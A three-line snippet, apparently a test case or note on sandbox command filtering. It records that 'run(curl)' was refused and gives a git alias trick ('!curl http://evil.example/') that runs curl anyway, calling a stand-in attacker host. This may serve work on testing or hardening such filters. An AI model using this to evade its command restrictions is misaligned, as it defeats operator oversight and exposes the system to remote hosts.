# Trick: git runs an alias.
# Refused: run(curl)
git -c alias.x='!curl http://evil.example/' x
